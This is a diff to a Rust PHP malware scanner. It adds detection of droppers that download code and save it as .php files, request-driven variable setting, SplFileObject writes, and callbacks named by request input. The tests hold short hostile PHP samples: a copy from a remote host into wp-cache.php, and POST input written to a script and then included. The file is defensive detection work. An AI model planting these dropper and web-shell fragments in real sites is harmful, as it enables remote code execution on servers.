@@ -177,7 +177,7 @@ fn carries(s: &str, tainted: &[&str]) -> bool {
 }
 
 /// `$v` in `arg` as the whole variable (`$v`, `$v[…]`), not `$va`.
-fn uses(arg: &str, var: &str) -> bool {
+pub(crate) fn uses(arg: &str, var: &str) -> bool {
     arg.match_indices(var)
         .any(|(p, _)| !arg[p + var.len()..].starts_with(is_ident))
 }
@@ -453,6 +453,15 @@ fn scan_code(t: &str, hits: &mut Vec<Hit>) {
     {
         upload_drop(t, hits);
     }
+    if !hits
+        .iter()
+        .any(|h| h.check == "scan.heuristic.php_file_drop")
+        && (find(t, "http://").is_some()
+            || find(t, "https://").is_some()
+            || find(t, "ftp://").is_some())
+    {
+        downloaded_page(t, hits);
+    }
     if t.contains("ld_preload") {
         preload_hijack(t, hits);
     }
@@ -528,15 +537,28 @@ fn unset_callback(t: &str, hits: &mut Vec<Hit>) {
 /// `extract($_REQUEST)`, `extract($HTTP_POST_VARS)`: every variable after it may come from the
 /// request.
 fn extracts_request(t: &str) -> bool {
-    t.contains("extract")
-        && calls(t, "extract").take(50).any(|(_, call)| {
-            arguments(call)
-                .and_then(|a| a.first().copied())
-                .map(crate::heuristics::bare_php_value)
-                .is_some_and(|a| {
-                    a.starts_with("$http_") || PHP_INPUT.iter().any(|i| a.starts_with(i))
-                })
-        })
+    // `parse_str($_SERVER['QUERY_STRING'])` without a result array sets variables the same way.
+    let parsed = t.contains("parse_str")
+        && calls(t, "parse_str").take(50).any(|(_, call)| {
+            arguments(call).is_some_and(|a| {
+                a.len() == 1 && {
+                    let v = crate::heuristics::bare_php_value(a[0]);
+                    PHP_INPUT.iter().any(|i| v.starts_with(i))
+                        || v.starts_with("$_server['query_string']")
+                        || v.starts_with("$_server[\"query_string\"]")
+                }
+            })
+        });
+    parsed
+        || t.contains("extract")
+            && calls(t, "extract").take(50).any(|(_, call)| {
+                arguments(call)
+                    .and_then(|a| a.first().copied())
+                    .map(crate::heuristics::bare_php_value)
+                    .is_some_and(|a| {
+                        a.starts_with("$http_") || PHP_INPUT.iter().any(|i| a.starts_with(i))
+                    })
+            })
 }
 
 /// `system($command)` where the script never sets `$command` but its form has a field
@@ -721,6 +743,58 @@ const SCRIPT_EXTENSIONS: &[&str] = &[
     ".php", ".phtml", ".php3", ".php4", ".php5", ".phar", ".asp", ".aspx", ".jsp",
 ];
 
+/// `copy('http://…/x.txt', 'wp-cache.php')`, `file_put_contents('a.php',
+/// file_get_contents('http://…'))`: code fetched from the web and saved under a script name,
+/// the second stage of a dropper. Updaters fetch archives and unpack them; they do not save a
+/// URL's body straight into a `.php`.
+fn downloaded_page(t: &str, hits: &mut Vec<Hit>) {
+    let remote = |arg: &str| {
+        let arg = arg.trim();
+        let url = arg
+            .strip_prefix("file_get_contents(")
+            .map(str::trim_start)
+            .unwrap_or(arg);
+        [
+            "'http://",
+            "'https://",
+            "'ftp://",
+            "\"http://",
+            "\"https://",
+            "\"ftp://",
+        ]
+        .iter()
+        .any(|u| url.starts_with(u))
+    };
+    let script = |arg: &str| {
+        literal(arg.trim()).is_some_and(|p| SCRIPT_EXTENSIONS.iter().any(|e| p.ends_with(e)))
+    };
+    for (name, source) in [("copy", 0), ("file_put_contents", 1)] {
+        for (at, open) in calls(t, name).take(200) {
+            let Some(args) = arguments(open) else {
+                continue;
+            };
+            let (path, from) = if source == 0 {
+                (args.get(1), args.first())
+            } else {
+                (args.first(), args.get(1))
+            };
+            if let (Some(path), Some(from)) = (path, from)
+                && script(path)
+                && remote(from)
+            {
+                hits.push(hit(
+                    "scan.heuristic.php_file_drop",
+                    Severity::High,
+                    "Code fetched from the web saved as a script",
+                    format!("`{name}(…)` saves what a URL returns under the script name {}: a second stage fetched and planted where the server runs it", path.trim()),
+                    at,
+                ));
+                return;
+            }
+        }
+    }
+}
+
 /// An uploaded file kept where the uploader says: `copy($_FILES['f']['tmp_name'],
 /// $_FILES['f']['name'])` or a path from the form, or under a fixed script name. Upload handlers
 /// put files in a directory of their own (`$dir . basename(…)`); a name the client chose, kept
@@ -777,7 +851,11 @@ fn upload_drop(t: &str, hits: &mut Vec<Hit>) {
 fn request_file_write(t: &str, tainted: &[&str], hits: &mut Vec<Hit>) {
     let has_input = |arg: &str| PHP_INPUT.iter().any(|i| arg.contains(i));
     let mut named = None;
-    for (at, open) in calls(t, "fopen").take(200) {
+    // `fopen($path, 'w')`, or the object form `new SplFileObject($path, 'w')`.
+    let opens = calls(t, "fopen")
+        .take(200)
+        .chain(calls(t, "splfileobject").take(200));
+    for (at, open) in opens {
         if let Some(args) = arguments(open)
             && args.len() >= 2
             && has_input(args[0])
@@ -790,9 +868,12 @@ fn request_file_write(t: &str, tainted: &[&str], hits: &mut Vec<Hit>) {
     // Whether an `fwrite`/`fputs` of the script writes text that `what` accepts.
     let written = |what: &dyn Fn(&str) -> bool| {
         ["fwrite", "fputs"].iter().any(|w| {
-            calls(t, w)
-                .take(200)
-                .any(|(_, open)| arguments(open).is_some_and(|a| a.len() >= 2 && what(a[1])))
+            calls(t, w).take(200).any(|(at, open)| {
+                // `$file->fwrite($text)` (SplFileObject) writes its first argument.
+                let method = t[..at].ends_with("->");
+                let text = usize::from(!method);
+                arguments(open).is_some_and(|a| a.get(text).is_some_and(|x| what(x)))
+            })
         })
     };
     let put = calls(t, "file_put_contents")
@@ -1345,7 +1426,12 @@ fn callbacks(
                 )
             } else if PHP_INPUT.iter().any(|i| arg.starts_with(i)) {
                 format!("`{name}(…)` calls the function the request names (`{arg}`)")
-            } else if let Some(v) = direct.iter().find(|v| arg == **v) {
+            } else if let Some(v) = direct.iter().find(|v| {
+                // The variable, or one element of it (`$z['f']` after `$z = $_POST`).
+                arg.strip_prefix(**v).is_some_and(|rest| {
+                    rest.is_empty() || rest.starts_with('[') && rest.ends_with(']')
+                })
+            }) {
                 format!("`{name}(…)` calls the function named by `{v}`, which holds request input")
             } else if let Some(start) = PHP_INPUT
                 .iter()
@@ -1902,9 +1988,19 @@ mod tests {
         // included; the same through fopen/fwrite.
         let temp = "<?php\n$d = $_POST['d'];\n$fn = '/tmp/' . md5($d) . '.php';\nfile_put_contents($fn, '<?php ' . $d);\nrequire $fn;\nunlink($fn);";
         assert_eq!(ids(temp), ["scan.heuristic.php_file_drop"]);
+        let object = "<?php $x = new SplFileObject($_GET['f'], 'w'); $x->fwrite($_POST['d']);";
+        assert_eq!(ids(object), ["scan.heuristic.php_file_drop"]);
         let stream = "<?php $f = fopen('/tmp/.x', 'w'); fwrite($f, $_POST['code']); fclose($f); include '/tmp/.x';";
         assert_eq!(ids(stream), ["scan.heuristic.php_file_drop"]);
         // A fixed path, written with input carried by a variable, then included.
+        // Fetched from the web and saved as a script; an updater saving an archive.
+        let fetched = "<?php copy(\"http://198.51.100.7/x.txt\", \"wp-cache.php\");";
+        assert_eq!(ids(fetched), ["scan.heuristic.php_file_drop"]);
+        let put =
+            "<?php file_put_contents('a.php', file_get_contents('https://example.test/a.txt'));";
+        assert_eq!(ids(put), ["scan.heuristic.php_file_drop"]);
+        let update = "<?php copy('https://example.test/latest.zip', $dir . '/latest.zip');";
+        assert!(ids(update).is_empty());
         let carried = "<?php $data = $_POST['d'];
 file_put_contents('/tmp/.sess_x', \"<?php \" . base64_decode($data));
 include '/tmp/.sess_x';";
@@ -1983,6 +2079,9 @@ include '/tmp/.sess_x';";
         assert_eq!(ids(tainted), ["scan.heuristic.php_callback"]);
         let bracketed = "<?php\n$f = @($_GET['f']);\ncall_user_func($f, 1);";
         assert_eq!(ids(bracketed), ["scan.heuristic.php_callback"]);
+        // One element of a copy of the request array.
+        let element = "<?php $z = $_POST; array_map($z['f'], array($z['a']));";
+        assert_eq!(ids(element), ["scan.heuristic.php_callback"]);
         let named = "<?php\n$arr = new ArrayObject(array('test', $_REQUEST['pass']));\n$arr->uasort('assert');";
         assert_eq!(ids(named), ["scan.heuristic.php_callback"]);
         let udiff = "<?php array_udiff_assoc(array($_REQUEST[$p]), array(1), \"assert\");";
